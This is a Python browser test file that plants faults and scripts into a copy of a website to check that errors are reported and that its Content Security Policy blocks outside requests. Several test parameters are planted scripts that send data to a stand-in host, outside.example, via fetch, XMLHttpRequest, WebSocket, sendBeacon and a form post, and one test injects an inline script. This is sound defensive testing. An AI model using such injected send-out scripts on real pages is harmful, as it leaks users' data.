"""The net that every journey falls into, tried with planted faults: without these, "nothing was heard" would mean little."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.browser.page import Page
    from tests.browser.served import Copy

HOME = "index.html"


def comes(source: Callable[[], list[str]], words: str) -> Callable[[], bool]:
    """Return a function that tells whether `source` has by now said anything with these words."""
    heard: list[str] = []

    def asked() -> bool:
        heard.extend(source())
        return any(words in each for each in heard)

    return asked


@pytest.mark.parametrize(
    "address",
    [
        pytest.param("http://outside.example/x.png", id="a plain picture"),
        pytest.param("https://outside.example/x.png", id="an encrypted picture"),
    ],
)
def test_a_planted_picture_from_outside_is_recorded(page: Page, own_copy: Copy, address: str) -> None:
    own_copy.change(HOME, "img-src 'self'", "img-src http: https: 'self'")
    own_copy.change(HOME, "</body>", f'<img src="{address}" alt=""></body>')
    page.open(HOME, site=own_copy)
    page.until(comes(page.outside, "outside.example"), "the planted request")
    page.until(comes(page.complaints, address), "word of the picture that did not load")
    page.outside()


def test_a_picture_from_outside_is_refused_by_the_policy_and_heard_of(page: Page, own_copy: Copy) -> None:
    own_copy.change(HOME, "</body>", '<img src="http://outside.example/x.png" alt=""></body>')
    page.open(HOME, site=own_copy)
    assert any("policy refused img-src: http://outside.example" in each for each in page.complaints())
    assert page.outside() == []


@pytest.mark.parametrize(
    ("script", "words"),
    [
        pytest.param("console.error('planted fault')", "planted fault", id="a console error"),
        pytest.param("throw new Error('planted fault')", "planted fault", id="an error thrown"),
        pytest.param("Promise.reject(new Error('planted fault'))", "planted fault", id="a promise rejected"),
        pytest.param(
            "document.body.append(Object.assign(new Image(), {src: 'gone.png'}))", "gone.png", id="a file gone"
        ),
        pytest.param("document.body.setAttribute('style', 'color: red')", "style-src", id="a style the policy refuses"),
    ],
)
def test_a_planted_fault_in_a_script_is_heard(page: Page, own_copy: Copy, script: str, words: str) -> None:
    (own_copy.root / "assets/js/planted.js").write_text(script, encoding="utf-8")
    own_copy.change(HOME, "</body>", '<script src="assets/js/planted.js"></script></body>')
    page.open(HOME, site=own_copy)
    page.until(comes(page.complaints, words), words)


@pytest.mark.parametrize(
    ("script", "refusal"),
    [
        pytest.param(
            "fetch('http://outside.example/x').catch(() => {})",
            "policy refused connect-src: http://outside.example/x",
            id="a request",
        ),
        pytest.param(
            "const asked = new XMLHttpRequest(); asked.open('GET', 'http://outside.example/x'); asked.send()",
            "policy refused connect-src: http://outside.example/x",
            id="a request of the older kind",
        ),
        pytest.param(
            "try { new WebSocket('ws://outside.example/x') } catch { /* Firefox throws at once */ }",
            "policy refused connect-src: ws://outside.example/x",
            id="a line kept open",
        ),
        pytest.param(
            "navigator.sendBeacon('http://outside.example/x', 'words')",
            "policy refused connect-src: http://outside.example/x",
            id="a beacon",
        ),
        pytest.param(
            "const form = document.createElement('form'); form.method = 'post'; form.action = 'http://outside.example/x'; "
            "document.body.append(form); form.submit()",
            "policy refused form-action: http://outside.example/x",
            id="a form sent",
        ),
    ],
)
def test_what_a_planted_script_would_send_is_refused_by_the_policy(
    page: Page, own_copy: Copy, script: str, refusal: str
) -> None:
    (own_copy.root / "assets/js/planted.js").write_text(script, encoding="utf-8")
    own_copy.change(HOME, "</body>", '<script src="assets/js/planted.js"></script></body>')
    page.open(HOME, site=own_copy)
    page.until(comes(page.complaints, refusal), refusal)
    assert page.outside() == []


def test_a_script_written_into_a_page_does_not_run(page: Page, own_copy: Copy) -> None:
    own_copy.change(HOME, "</body>", "<script>document.documentElement.dataset.planted = 1</script></body>")
    page.open(HOME, site=own_copy)
    assert any("policy refused script-src" in each for each in page.complaints())
    assert page.run("return document.documentElement.dataset.planted") is None
